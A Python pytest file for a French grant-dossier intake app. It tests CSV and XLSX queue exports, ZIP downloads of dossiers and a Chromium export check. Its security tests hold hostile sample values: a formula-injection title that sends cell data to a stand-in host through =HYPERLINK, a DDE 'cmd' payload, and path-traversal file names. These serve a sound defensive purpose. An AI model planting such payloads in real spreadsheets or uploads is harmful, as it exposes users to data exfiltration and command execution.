"""Exports: the queue as CSV and XLSX under the queue's own filters, read back with csv and
openpyxl (headers, types, rows); a dossier as a ZIP of what arrived (attachments, raw
messages) and its dossier.json, with safe and unique names whatever the applicant wrote;
and, in Debian's Chromium, the XLSX downloaded from the queue and read back."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
import unicodedata
import zipfile
from datetime import datetime
from pathlib import Path

import openpyxl
import pytest

from intake.reading.message import decode_message
from web.files import MAX_NAME_CHARS

from .conftest import (
    COMPLETE_BODY,
    COMPLETE_DOCX,
    EXAMPLES,
    INCOMPLETE,
    LATE,
    SCANNED,
    csrf_of,
)
from .test_files import EMPTY_BUDGET, HOSTILE_REFERENCE, hostile_files_dossier, insert_dossier

ALL = [COMPLETE_DOCX, SCANNED, COMPLETE_BODY, INCOMPLETE, LATE]
HEADERS = ["Référence", "Reçu le", "Porteur", "Projet", "Objet du courriel", "Décision", "Code de la décision"]


def read_csv(response) -> list[dict]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.content.startswith(b"\xef\xbb\xbf")  # a BOM: Excel reads it as UTF-8
    text = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))


def read_xlsx(response) -> openpyxl.Workbook:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == \
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    return openpyxl.load_workbook(io.BytesIO(response.content))


def sheet_rows(ws) -> tuple[list[str], list[dict]]:
    rows = list(ws.iter_rows())
    headers = [c.value for c in rows[0]]
    return headers, [dict(zip(headers, r, strict=True)) for r in rows[1:]]


# ------------------------------------------------------------------ CSV

def test_csv_every_dossier_with_its_figures(secretariat):
    r = secretariat.get("/exports/dossiers.csv")
    assert re.fullmatch(r'attachment; filename="dossiers-\d{4}-\d\d-\d\d-\d{4}\.csv"', r.headers["content-disposition"])
    rows = read_csv(r)
    assert [row["Référence"] for row in rows] == ALL  # the queue's order
    headers = list(rows[0])
    assert headers[:len(HEADERS)] == HEADERS
    for h in ("Coût total (€)", "Demande à l'Anact (€)", "Co-financement (€)", "Part du co-financement (%)",
              "Budget : Personnel (€)", "Budget : Prestations (€)", "Partie manquante (missing_section)",
              "Hors délai (late_submission)", "Détail des alertes", "Partenaires", "Dernier courriel", "Lien"):
        assert h in headers, h
    vox = next(row for row in rows if row["Référence"] == INCOMPLETE)
    assert vox["Reçu le"] == "2022-08-20 16:51"  # Paris time
    assert vox["Porteur"] == "thomas.keller@itn-recherche.fr"
    assert "Vox Travail" in vox["Projet"]
    assert vox["Décision"] == "incomplet" and vox["Code de la décision"] == "incomplete"
    assert vox["Demande à l'Anact (€)"] == "51000,00"
    assert vox["Part du co-financement (%)"] == "15,00"
    assert vox["Co-financement insuffisant (cofinancing_below_minimum)"] == "1"
    assert vox["Dépense non éligible (ineligible_expense)"] == "1"
    assert vox["Alertes bloquantes"] == "1" and vox["Avertissements"] == "1"
    assert "Co-financement insuffisant" in vox["Détail des alertes"]
    assert vox["Dernier courriel"] == "demande de compléments : à valider"
    assert vox["Lien"] == f"http://testserver/dossiers/{INCOMPLETE}"
    late = next(row for row in rows if row["Référence"] == LATE)
    assert late["Hors délai (late_submission)"] == "1" and late["Code de la décision"] == "late"
    scanned = next(row for row in rows if row["Référence"] == SCANNED)
    assert scanned["Demande à l'Anact (€)"] == ""  # a figure not found is empty, not 0


@pytest.mark.parametrize("query, expected", [
    ("decision=complete", [COMPLETE_DOCX, COMPLETE_BODY]),
    ("flag=scanned_document", [SCANNED]),
    ("todo=1", [SCANNED, INCOMPLETE, LATE]),  # LATE: its refusal waits for approval
    ("q=vox+travail", [INCOMPLETE]),
    ("from=2022-08-20&to=2022-08-20", [COMPLETE_BODY, INCOMPLETE]),
    ("sort=anact&dir=desc&page=3", [COMPLETE_BODY, INCOMPLETE, LATE, COMPLETE_DOCX, SCANNED]),  # every page
    ("decision=n-importe-quoi", ALL),
    ("q=introuvable", []),
])
def test_csv_honours_the_queue_filters(secretariat, query, expected):
    assert [row["Référence"] for row in read_csv(secretariat.get("/exports/dossiers.csv?" + query))] == expected


def test_the_queue_links_to_its_exports_with_its_filters(secretariat):
    html = secretariat.get("/?decision=complete&q=outiller&sort=anact&page=2").text
    assert 'href="/exports/dossiers.xlsx?decision=complete&amp;q=outiller&amp;sort=anact"' in html
    assert 'href="/exports/dossiers.csv?decision=complete&amp;q=outiller&amp;sort=anact"' in html
    assert 'href="/exports/dossiers.xlsx"' in secretariat.get("/").text


def test_a_set_aside_flag_no_longer_counts(secretariat):
    page = secretariat.get(f"/dossiers/{INCOMPLETE}").text
    r = secretariat.post(f"/dossiers/{INCOMPLETE}/flags", data={
        "csrf_token": csrf_of(page), "code": "cofinancing_below_minimum", "target": "",
        "status": "not_applicable", "comment": "Courrier du conseil régional reçu."})
    assert r.status_code == 200
    vox = next(row for row in read_csv(secretariat.get("/exports/dossiers.csv")) if row["Référence"] == INCOMPLETE)
    assert vox["Code de la décision"] == "complete"
    assert vox["Co-financement insuffisant (cofinancing_below_minimum)"] == "0"
    assert vox["Alertes écartées"] == "1" and vox["Alertes bloquantes"] == "0"
    assert "Co-financement insuffisant (écartée)" in vox["Détail des alertes"]


FORMULA_TITLE = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")\x07\x1b"


def formula_dossier(engine, blobs) -> None:
    data = {"message": {}, "attachments": [], "sections": {}, "budget": EMPTY_BUDGET, "partners": [
        {"name": "+33 1 23 45 67 89", "contribution": ""}, {"name": "@SUM(1+1)", "contribution": ""}],
        "flags": [{"code": "ineligible_expense", "target": "-2+3+cmd|' /C calc'!A0", "severity": "warning",
                   "message": "=1+1", "evidence": ""}], "decision": "complete", "title": FORMULA_TITLE}
    insert_dossier(engine, blobs, "FAB-2022-0888", [], data, title=FORMULA_TITLE)


def test_applicant_text_is_never_a_formula(secretariat, engine, blobs):
    formula_dossier(engine, blobs)
    row = read_csv(secretariat.get("/exports/dossiers.csv?q=FAB-2022-0888"))[0]
    assert row["Projet"].startswith("'=HYPERLINK(")
    assert row["Noms des partenaires"].startswith("'+33")
    wb = read_xlsx(secretariat.get("/exports/dossiers.xlsx?q=FAB-2022-0888"))
    headers, rows = sheet_rows(wb["Dossiers"])
    cell = rows[0]["Projet"]
    assert cell.data_type == "s" and cell.value == FORMULA_TITLE[:-2]  # a string; no control character
    assert all(c.data_type != "f" for row in rows for c in row.values())
    assert all(c.data_type != "f" for row in wb["Alertes"].iter_rows() for c in row)


# ------------------------------------------------------------------ XLSX

def test_xlsx_typed_cells(secretariat):
    r = secretariat.get("/exports/dossiers.xlsx")
    assert re.fullmatch(r'attachment; filename="dossiers-\d{4}-\d\d-\d\d-\d{4}\.xlsx"', r.headers["content-disposition"])
    wb = read_xlsx(r)
    assert wb.sheetnames == ["Dossiers", "Alertes", "Export"]
    ws = wb["Dossiers"]
    headers, rows = sheet_rows(ws)
    assert headers[:len(HEADERS)] == HEADERS
    assert headers == [h.replace(" (€)", "").replace(" (%)", "") for h in read_csv(
        secretariat.get("/exports/dossiers.csv"))[0]]  # the same columns as the CSV
    assert [row["Référence"].value for row in rows] == ALL
    assert ws.freeze_panes == "B2" and ws.auto_filter.ref == f"A1:{ws.cell(1, len(headers)).column_letter}6"
    vox = next(row for row in rows if row["Référence"].value == INCOMPLETE)
    assert vox["Reçu le"].value == datetime(2022, 8, 20, 16, 51, 44)  # a date, Paris wall-clock time
    assert vox["Reçu le"].is_date and vox["Reçu le"].number_format == "dd/mm/yyyy hh:mm"
    anact = vox["Demande à l'Anact"]
    assert anact.data_type == "n" and anact.value == 51000 and "€" in anact.number_format
    share = vox["Part du co-financement"]
    assert share.value == pytest.approx(0.15) and share.number_format == "0.0%"
    assert vox["Alertes bloquantes"].value == 1 and isinstance(vox["Alertes bloquantes"].value, int)
    assert vox["Partenaires"].value >= 1 and vox["Parties présentes (sur 10)"].value == 10
    for cat in ("Personnel", "Déplacements et logistique", "Prestations"):
        assert vox[f"Budget : {cat}"].data_type == "n" and vox[f"Budget : {cat}"].value > 0, cat
    assert vox["Référence"].hyperlink.target == f"http://testserver/dossiers/{INCOMPLETE}"
    scanned = next(row for row in rows if row["Référence"].value == SCANNED)
    assert scanned["Demande à l'Anact"].value is None  # not found: an empty cell, not 0
    # one row a flag, with the secretariat's correction
    fheaders, flags = sheet_rows(wb["Alertes"])
    assert fheaders[:5] == ["Référence", "Alerte", "Code", "Cible", "Gravité"]
    assert {(f["Référence"].value, f["Code"].value) for f in flags} >= {
        (INCOMPLETE, "cofinancing_below_minimum"), (INCOMPLETE, "ineligible_expense"), (LATE, "late_submission"),
        (SCANNED, "scanned_document")}
    about = {row[0].value: row[1] for row in wb["Export"].iter_rows(min_row=2)}
    assert about["Dossiers"].value == 5 and about["Filtres"].value == "aucun : tous les dossiers"
    assert about["Exporté le"].is_date


def test_xlsx_honours_the_queue_filters(secretariat):
    wb = read_xlsx(secretariat.get("/exports/dossiers.xlsx?todo=1&sort=reference&dir=desc"))
    _headers, rows = sheet_rows(wb["Dossiers"])
    assert [row["Référence"].value for row in rows] == [LATE, INCOMPLETE, SCANNED]
    about = {row[0].value: row[1].value for row in wb["Export"].iter_rows(min_row=2)}
    assert about["Filtres"] == "à traiter seulement" and about["Dossiers"] == 3
    empty = read_xlsx(secretariat.get("/exports/dossiers.xlsx?q=introuvable"))
    assert empty["Dossiers"].max_row == 1  # the headers, no row


# ------------------------------------------------------------------ a dossier as a ZIP

def read_zip(response) -> zipfile.ZipFile:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/zip"
    zf = zipfile.ZipFile(io.BytesIO(response.content))
    assert zf.testzip() is None
    return zf


def test_dossier_zip(secretariat):
    raw = next(p for p in EXAMPLES if p.name.startswith("01-")).read_bytes()
    r = secretariat.get(f"/dossiers/{COMPLETE_DOCX}/dossier.zip")
    assert r.headers["content-disposition"] == f'attachment; filename="{COMPLETE_DOCX}.zip"'
    zf = read_zip(r)
    root = COMPLETE_DOCX + "/"
    assert sorted(zf.namelist()) == sorted(root + n for n in [
        "dossier.json", "courriel-1.eml", "courriel-1/Candidature_Fabrique_CTO_HYBRIDE-COLLECTIF.docx",
        "courriel-1/Budget HYBRIDE-COLLECTIF.xlsx"])
    assert zf.read(root + "courriel-1.eml") == raw  # the message as received, byte for byte
    parts = {p.filename: p.data for p in decode_message(raw).parts}
    assert zf.read(root + "courriel-1/Budget HYBRIDE-COLLECTIF.xlsx") == parts["Budget HYBRIDE-COLLECTIF.xlsx"]
    data = json.loads(zf.read(root + "dossier.json"))
    assert data["reference"] == COMPLETE_DOCX and data["decision"] == "complete"
    assert set(data) >= {"message", "attachments", "sections", "budget", "partners", "flags", "received_at",
                         "reading_decision", "overrides"}
    sha = hashlib.sha256(parts["Budget HYBRIDE-COLLECTIF.xlsx"]).hexdigest()
    assert {"sha256": sha, "download_url": f"/dossiers/{COMPLETE_DOCX}/files/{sha}"}.items() <= \
        next(a for a in data["attachments"] if a["sha256"] == sha).items()
    info = zf.getinfo(root + "courriel-1.eml")
    assert info.date_time[:3] == (2022, 8, 10)  # dated when it was received


def test_zip_of_a_dossier_sent_in_the_body(secretariat):
    zf = read_zip(secretariat.get(f"/dossiers/{COMPLETE_BODY}/dossier.zip"))
    assert sorted(zf.namelist()) == [f"{COMPLETE_BODY}/courriel-1.eml", f"{COMPLETE_BODY}/dossier.json"]


def test_zip_names_are_safe_whatever_the_applicant_wrote(secretariat, engine, blobs, tmp_path):
    raw, parts = hostile_files_dossier(engine, blobs)
    zf = read_zip(secretariat.get(f"/dossiers/{HOSTILE_REFERENCE}/dossier.zip"))
    names = zf.namelist()
    assert len(names) == len(parts) + 2  # every part, the raw message, dossier.json
    assert len({n.casefold() for n in names}) == len(names)  # unique, even on Windows
    for name in names:
        assert not name.startswith("/") and "\\" not in name and "\x00" not in name, name
        components = name.split("/")
        assert components[0] == HOSTILE_REFERENCE
        for c in components:
            assert c not in ("", ".", "..") and not c.startswith("."), name
            assert len(c) <= MAX_NAME_CHARS, name
            assert not any(unicodedata.category(ch) in ("Cc", "Cf", "Zl", "Zp") for ch in c), repr(name)
    files = {n.split("/", 2)[2]: zf.read(n) for n in names if n.startswith(f"{HOSTILE_REFERENCE}/courriel-1/")}
    assert sorted(files.values()) == sorted(p.data for p in parts)  # every file, its bytes
    assert {"passwd", "_CON.txt", "projet.pdf", "Projet (2).PDF", "projet (3).pdf", "facturefdp.exe",
            "_._._tmp_evil.sh", "htaccess"} <= set(files)
    assert zf.read(f"{HOSTILE_REFERENCE}/courriel-1.eml") == raw
    # unpacked, everything stays inside the target folder
    target = tmp_path / "unzip"
    zf.extractall(target)
    for path in target.rglob("*"):
        assert path.resolve().is_relative_to(target.resolve())
    assert sum(1 for p in target.rglob("*") if p.is_file()) == len(names)


def test_zip_notes_a_message_missing_from_the_store(secretariat, engine, blobs):
    insert_dossier(engine, blobs, "FAB-2022-0999", [b"From: a@b.fr\r\n\r\nBonjour\r\n"],
                   {"attachments": [], "budget": EMPTY_BUDGET, "flags": [], "decision": "not_a_proposal"})
    sha = hashlib.sha256(b"From: a@b.fr\r\n\r\nBonjour\r\n").hexdigest()
    blobs.path(sha).unlink()
    zf = read_zip(secretariat.get("/dossiers/FAB-2022-0999/dossier.zip"))
    assert sorted(zf.namelist()) == ["FAB-2022-0999/courriel-1-absent.txt", "FAB-2022-0999/dossier.json"]
    assert "n'est plus dans le stockage" in zf.read("FAB-2022-0999/courriel-1-absent.txt").decode()


def test_unknown_dossier_zip_is_404(secretariat):
    assert secretariat.get("/dossiers/FAB-2022-9999/dossier.zip").status_code == 404
    assert secretariat.get("/dossiers/..%2F..%2Fetc/dossier.zip").status_code == 404


# ------------------------------------------------------------------ in the browser

CHROMIUM = Path("/usr/bin/chromium")


@pytest.mark.skipif(not CHROMIUM.exists(), reason="navigateur absent (/usr/bin/chromium) : test ignoré")
def test_export_xlsx_from_the_queue_in_a_browser(intake_home, tmp_path, blobs, web_config):
    from playwright.sync_api import sync_playwright

    from .test_browser import check_accessibility_basics, log_in, served, shot

    with served(intake_home, tmp_path, blobs, web_config.call) as base, sync_playwright() as p:
        browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=["--lang=fr-FR"])
        try:
            context = browser.new_context(locale="fr-FR", timezone_id="Europe/Paris", accept_downloads=True,
                                          viewport={"width": 1366, "height": 900})
            context.set_default_timeout(10_000)
            page = context.new_page()
            log_in(page, base)
            page.get_by_label("Décision", exact=True).select_option("complete")
            page.get_by_role("button", name="Filtrer").click()
            page.wait_for_url("**decision=complete**")
            with page.expect_download() as info:
                page.get_by_role("link", name="Exporter en XLSX").click()
            download = info.value
            assert re.fullmatch(r"dossiers-\d{4}-\d\d-\d\d-\d{4}\.xlsx", download.suggested_filename)
            saved = tmp_path / download.suggested_filename
            download.save_as(saved)
            wb = openpyxl.load_workbook(saved)
            _headers, rows = sheet_rows(wb["Dossiers"])
            assert [row["Référence"].value for row in rows] == [COMPLETE_DOCX, COMPLETE_BODY]
            assert all(row["Reçu le"].is_date for row in rows)

            # the dossier's PDF, previewed in the page by the browser's own viewer
            messages = []
            page.on("console", lambda m: messages.append(m.text))
            page.goto(f"{base}/dossiers/{SCANNED}")
            page.get_by_role("link", name="Aperçu de Budget signé.pdf").click()
            page.wait_for_url("**/apercu")
            assert page.title().startswith("Aperçu de Budget signé.pdf")
            check_accessibility_basics(page)
            pdf_url = page.locator("object").get_attribute("data")
            assert pdf_url.endswith("/pdf")
            for _ in range(100):  # the PDF in the page, in Chromium's own viewer (not blocked)
                if any(f.url.startswith("chrome-extension://") for f in page.frames):
                    break
                page.wait_for_timeout(100)
            else:
                pytest.fail(f"pas de lecteur PDF dans la page : {[f.url for f in page.frames]}")
            assert any(f.url == base + pdf_url for f in page.frames)
            page.wait_for_timeout(1000)  # for the screenshot: the first page drawn
            shot(page, "apercu-pdf.png", full_page=False)
            assert not [m for m in messages if "Refused" in m or "blocked" in m.lower()], messages
            with page.expect_download() as info:
                page.get_by_role("link", name="Télécharger Budget signé.pdf").first.click()
            assert info.value.suggested_filename == "Budget signé.pdf"
        finally:
            browser.close()


def test_bulk_export_of_the_ticked_dossiers(secretariat, engine):
    """The queue's checkboxes, "Exporter en XLSX": the ticked dossiers alone, in the
    queue's order, whatever its filters; nothing is changed or audited."""
    from sqlalchemy import func, select

    from storage.schema import audit_log

    queue = secretariat.get("/?sort=reference&dir=desc").text
    assert 'value="export"' in queue
    r = secretariat.post("/queue/bulk", follow_redirects=False, data={
        "csrf_token": csrf_of(queue), "action": "export", "ref": [INCOMPLETE, COMPLETE_DOCX, "fab-2022-0003"],
        "back": "sort=reference&dir=desc&decision=late"})
    wb = read_xlsx(r)
    assert "dossiers-selection-" in r.headers["content-disposition"]
    _headers, rows = sheet_rows(wb["Dossiers"])
    assert [row["Référence"].value for row in rows] == [INCOMPLETE, "FAB-2022-0003", COMPLETE_DOCX]
    about = {a.value: b.value for a, b in wb["Export"].iter_rows()}
    assert about["Filtres"] == "3 dossiers cochés dans la liste"
    with engine.connect() as conn:
        assert conn.execute(select(func.count()).select_from(audit_log)).scalar() == 0
    # nothing ticked: back to the queue with a notice; no token: refused
    r = secretariat.post("/queue/bulk", follow_redirects=False, data={
        "csrf_token": csrf_of(queue), "action": "export", "back": ""})
    assert r.status_code == 303 and "fait=lot-vide" in r.headers["location"]
    r = secretariat.post("/queue/bulk", follow_redirects=False, data={"action": "export", "ref": [INCOMPLETE]})
    assert r.status_code == 403
